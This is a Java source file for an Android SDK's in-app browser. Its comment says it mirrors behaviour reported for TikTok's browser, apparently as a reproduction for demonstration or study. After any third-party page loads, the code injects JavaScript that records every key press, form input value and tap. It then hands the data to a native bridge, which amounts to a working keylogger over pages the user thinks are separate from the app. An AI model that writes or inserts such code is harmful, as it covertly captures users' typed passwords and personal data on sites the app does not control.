package com.bytedance.sdk;

import android.content.Context;
import android.webkit.WebView;
import android.webkit.WebViewClient;

/**
 * The SDK's in-app browser, as TikTok's was shown to behave (iOS, 2022): a third-party page opens inside the
 * app, and once it has loaded the SDK injects JavaScript that listens to the user's key presses and taps and
 * hands what it collects to the SDK through a JavaScript interface.
 */
final class InAppBrowser {
    static final String OFFER = "https://shop.example-merchant.de/offer";
    static final String BRIDGE = "TTBridge";
    static final String KEY_LISTENER = "(function(){var typed='';"
            + "document.addEventListener('keydown',function(e){typed+=e.key;});"
            + "document.addEventListener('input',function(e){typed=e.target.value;});"
            + "document.addEventListener('selectionchange',function(){});"
            + "window.addEventListener('blur',function(){TTBridge.onKeys(typed);});})();";
    static final String TAP_LISTENER = "javascript:document.addEventListener('touchstart',function(e){"
            + "TTBridge.onTap(e.target.tagName);},true);";

    private InAppBrowser() {}

    static void open(Context context, String url) {
        final WebView view = new WebView(context);
        view.addJavascriptInterface(new BrowserBridge(), BRIDGE);
        view.setWebViewClient(new WebViewClient() {
            @Override
            public void onPageFinished(WebView page, String loaded) {
                page.evaluateJavascript(KEY_LISTENER, null);
                page.loadUrl(TAP_LISTENER);
            }
        });
        view.loadUrl(url);
    }
}
